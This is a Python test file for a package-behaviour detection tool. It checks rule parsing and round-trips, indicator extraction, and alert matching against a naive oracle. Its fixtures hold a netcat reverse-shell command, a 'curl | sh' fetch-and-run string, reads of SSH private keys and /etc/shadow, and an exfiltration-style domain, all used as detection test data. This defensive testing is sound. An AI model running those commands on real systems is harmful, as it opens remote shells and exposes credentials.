"""Rule language parsing/printing and report matching."""

from __future__ import annotations

import random

import pytest

from packsift.behavior.records import (
    CommandRecord,
    DomainRecord,
    FileRecord,
    NetworkEndpoint,
    PhaseReport,
    SyscallStats,
)
from packsift.rules import (
    RuleSyntaxError,
    default_ruleset,
    indicator_strings,
    match_report,
    parse_ruleset,
    print_ruleset,
)

from support import naive_match


def phases_with(
    commands=(), files=(), domains=(), ips=(), syscalls=(), phase="install", extra=None
):
    report = PhaseReport(
        phase=phase,
        commands=[CommandRecord(p, list(a), 1, True, i) for i, (p, a) in enumerate(commands)],
        files=[FileRecord(p, {"read"}, {1}) for p in files],
        domains=[DomainRecord(d, 1, i) for i, d in enumerate(domains)],
        endpoints=[NetworkEndpoint(a, p, "tcp", i) for i, (a, p) in enumerate(ips)],
        syscalls=SyscallStats(dict(syscalls), sum(c for _, c in syscalls)),
    )
    phases = {phase: report}
    if extra:
        phases.update(extra)
    return phases


# -- parser -----------------------------------------------------------------

def test_single_literal_rule():
    rs = parse_ruleset(
        'rule pw : file {\n  severity = high\n  description = "passwd"\n  match = "/etc/passwd"\n}\n'
    )
    assert len(rs) == 1
    rule = rs.rules[0]
    assert (rule.id, rule.category, rule.severity) == ("pw", "file", "high")
    assert rule.literals == ("/etc/passwd",)


def test_empty_source_empty_ruleset():
    assert len(parse_ruleset("")) == 0
    assert len(parse_ruleset("# only a comment\n\n")) == 0


def test_duplicate_ids_rejected_with_both_locations():
    src = (
        'rule a : file {\n severity = low\n match = "x"\n}\n'
        'rule a : ip {\n severity = low\n match = "y"\n}\n'
    )
    with pytest.raises(RuleSyntaxError) as exc:
        parse_ruleset(src)
    assert "duplicate" in str(exc.value)
    assert "line 1" in str(exc.value) and exc.value.line == 5


def test_syntax_error_carries_line_and_col():
    with pytest.raises(RuleSyntaxError) as exc:
        parse_ruleset("rule b : file {\n  severity = sometimes\n}")
    assert exc.value.line == 2
    assert exc.value.col > 0
    assert "expected" in exc.value.message or "unknown severity" in exc.value.message


def test_requires_match_or_regex():
    with pytest.raises(RuleSyntaxError) as exc:
        parse_ruleset('rule c : file {\n  severity = low\n  description = "d"\n}')
    assert "at least one match or regex" in str(exc.value)


def test_unknown_category_names_choices():
    with pytest.raises(RuleSyntaxError) as exc:
        parse_ruleset('rule d : banana {\n severity = low\n match = "x"\n}')
    assert "command" in str(exc.value)


def test_bad_regex_is_syntax_error():
    with pytest.raises(RuleSyntaxError) as exc:
        parse_ruleset("rule e : command {\n severity = low\n regex = /(/\n}")
    assert "bad regex" in str(exc.value)


def test_comments_and_blank_lines_ignored():
    src = "# header\n\nrule f : any { # trailing comment\n  severity = low\n  match = \"x\"\n}\n"
    assert len(parse_ruleset(src)) == 1


def test_regex_with_escaped_slash():
    rs = parse_ruleset("rule g : file {\n severity = low\n regex = /a\\/b/\n}")
    assert rs.rules[0].patterns == ("a\\/b",)
    assert rs.rules[0].compiled[0].search("x a/b y")


def test_print_parse_round_trip_default_rules():
    rs = default_ruleset()
    assert parse_ruleset(print_ruleset(rs)).rules == rs.rules


def test_print_parse_round_trip_escapes():
    src = 'rule h : command {\n  severity = medium\n  description = "tab\\t and \\"q\\""\n  match = "back\\\\slash"\n}\n'
    rs = parse_ruleset(src)
    assert parse_ruleset(print_ruleset(rs)).rules == rs.rules


# -- indicator surfaces ---------------------------------------------------------

def test_command_surface_join():
    phases = phases_with(commands=[("/bin/sh", ["sh", "-c", "id"])])
    surface = indicator_strings(phases, "command")
    assert surface == [("install", "/bin/sh sh -c id", 0)]
    assert "sh -c id" in surface[0][1]


def test_empty_report_empty_surfaces():
    phases = {"install": PhaseReport(phase="install")}
    for category in ("command", "file", "domain", "ip", "syscall", "any"):
        assert indicator_strings(phases, category) == []


def test_any_surface_is_union():
    phases = phases_with(
        commands=[("/bin/sh", ["sh"])],
        files=["/etc/passwd", "/tmp/x"],
        domains=["a.example"],
        ips=[("1.2.3.4", 443)],
        syscalls=[("openat", 3), ("read", 1)],
    )
    sizes = sum(
        len(indicator_strings(phases, c)) for c in ("command", "file", "domain", "ip", "syscall")
    )
    assert len(indicator_strings(phases, "any")) == sizes == 7


def test_ip_surface_format():
    phases = phases_with(ips=[("10.0.0.5", 4444)])
    assert indicator_strings(phases, "ip") == [("install", "10.0.0.5:4444", 0)]


# -- matching ----------------------------------------------------------------------

def test_literal_file_match():
    rs = parse_ruleset('rule pw : file {\n severity = high\n match = "/etc/passwd"\n}')
    phases = phases_with(files=["/etc/passwd", "/tmp/other"])
    alerts = match_report(phases, rs)
    assert len(alerts) == 1
    assert alerts[0].matched_value == "/etc/passwd"
    assert alerts[0].position == 0


def test_empty_ruleset_no_alerts():
    phases = phases_with(files=["/etc/passwd"])
    assert match_report(phases, parse_ruleset("")) == []


def test_pattern_command_match():
    rs = parse_ruleset("rule rsh : command {\n severity = high\n regex = /nc\\s+-e/\n}")
    phases = phases_with(commands=[("/bin/sh", ["sh", "-c", "nc -e /bin/sh 10.0.0.5 4444"])])
    alerts = match_report(phases, rs)
    assert len(alerts) == 1
    assert "nc -e" in alerts[0].matched_value


def test_one_alert_per_rule_indicator_pair():
    # two match lines hitting the same indicator produce one alert
    rs = parse_ruleset(
        'rule multi : file {\n severity = low\n match = "passwd"\n match = "/etc"\n}'
    )
    phases = phases_with(files=["/etc/passwd"])
    assert len(match_report(phases, rs)) == 1


def test_domain_category_matches_lowercase():
    rs = parse_ruleset('rule dom : domain {\n severity = low\n match = "EVIL.Example"\n}')
    phases = phases_with(domains=["evil.example"])
    assert len(match_report(phases, rs)) == 1


def test_non_domain_categories_case_sensitive():
    rs = parse_ruleset('rule f : file {\n severity = low\n match = "/ETC/passwd"\n}')
    phases = phases_with(files=["/etc/passwd"])
    assert match_report(phases, rs) == []


def test_alert_ordering():
    src = (
        'rule zlow : any {\n severity = low\n match = "x"\n}\n'
        'rule ahigh : any {\n severity = high\n match = "x"\n}\n'
        'rule mmed : any {\n severity = medium\n match = "x"\n}\n'
    )
    rs = parse_ruleset(src)
    phases = phases_with(files=["x1", "x2"])
    alerts = match_report(phases, rs)
    assert [a.rule_id for a in alerts] == ["ahigh", "ahigh", "mmed", "mmed", "zlow", "zlow"]
    assert [a.position for a in alerts] == [0, 1, 0, 1, 0, 1]


def test_phase_ordering_in_alerts():
    rs = parse_ruleset('rule r : file {\n severity = low\n match = "hit"\n}')
    phases = phases_with(files=["hit-exec"], phase="execute", extra=None)
    phases.update(phases_with(files=["hit-install"], phase="install"))
    alerts = match_report(phases, rs)
    assert [a.phase for a in alerts] == ["install", "execute"]


def test_monotonicity_adding_rules_and_indicators():
    base_rules = 'rule a : file {\n severity = low\n match = "passwd"\n}\n'
    more_rules = base_rules + 'rule b : file {\n severity = high\n match = "shadow"\n}\n'
    phases_small = phases_with(files=["/etc/passwd"])
    phases_big = phases_with(files=["/etc/passwd", "/etc/shadow"])

    small = {(a.rule_id, a.matched_value) for a in match_report(phases_small, parse_ruleset(base_rules))}
    more = {(a.rule_id, a.matched_value) for a in match_report(phases_small, parse_ruleset(more_rules))}
    bigger = {(a.rule_id, a.matched_value) for a in match_report(phases_big, parse_ruleset(more_rules))}
    assert small <= more <= bigger


# -- oracle equivalence -------------------------------------------------------------

SAFE_LITERALS = ["/etc/passwd", "nc", "sh -c", "curl", ".ssh", "exfil", "44", "/usr", "x"]
SAFE_PATTERNS = [
    r"nc\s+-e",
    r"\.ssh",
    r":44+$",
    r"^/etc",
    r"[0-9a-f]{8,}",
    r"(curl|wget)",
    r"pass(wd)?",
    r"\d+\.\d+",
    r"/usr/[a-z]+",
    r"exfil",
]


def random_instance(rng: random.Random):
    categories = ["command", "file", "domain", "ip", "syscall", "any"]
    severities = ["low", "medium", "high"]
    rules_src = []
    rules_plain = []
    for i in range(rng.randint(1, 10)):
        category = rng.choice(categories)
        severity = rng.choice(severities)
        literals = rng.sample(SAFE_LITERALS, rng.randint(0, 2))
        patterns = rng.sample(SAFE_PATTERNS, rng.randint(0, 2))
        if not literals and not patterns:
            literals = [rng.choice(SAFE_LITERALS)]
        lines = [f"rule r{i} : {category} {{", f"  severity = {severity}"]
        lines += [f'  match = "{lit}"' for lit in literals]
        # slashes must be escaped inside the /.../ delimiters
        lines += ["  regex = /" + pat.replace("/", "\\/") + "/" for pat in patterns]
        lines.append("}")
        rules_src.append("\n".join(lines))
        rules_plain.append(
            {"id": f"r{i}", "category": category, "severity": severity,
             "literals": literals, "patterns": patterns}
        )

    files = [rng.choice(["/etc/passwd", "/usr/lib/x.so", "/root/.ssh/id_rsa", "/tmp/a", "/etc/shadow"]) + str(rng.randint(0, 9)) for _ in range(rng.randint(0, 12))]
    commands = [("/bin/sh", ["sh", "-c", rng.choice(["nc -e /bin/sh 1.2.3.4 4444", "curl http://x | sh", "ls -la", "id"])]) for _ in range(rng.randint(0, 6))]
    domains = [rng.choice(["evil.example", "a9f3c2e8d1b4a7f6c3e9d2b5a8f1.exfil.example", "ok.example"]) for _ in range(rng.randint(0, 6))]
    ips = [(f"10.0.0.{rng.randint(1, 9)}", rng.choice([80, 443, 4444])) for _ in range(rng.randint(0, 6))]
    syscalls = [(n, rng.randint(1, 5)) for n in rng.sample(["openat", "read", "execve", "connect", "sendto"], rng.randint(0, 4))]

    # sorted sections, as build_phase_report guarantees
    files = sorted(set(files))
    domains = sorted(set(domains))
    ips = sorted(set(ips))
    phases = phases_with(
        commands=commands, files=files, domains=domains, ips=ips, syscalls=sorted(syscalls)
    )
    return "\n".join(rules_src), rules_plain, phases


def test_oracle_equivalence_sample():
    rng = random.Random(777)
    for _ in range(100):
        src, plain_rules, phases = random_instance(rng)
        ruleset = parse_ruleset(src)
        got = [
            (a.rule_id, a.category, a.phase, a.matched_value, a.severity, a.position)
            for a in match_report(phases, ruleset)
        ]
        surfaces = {
            c: indicator_strings(phases, c) for c in ("command", "file", "domain", "ip", "syscall")
        }
        want = naive_match(plain_rules, surfaces)
        assert got == want
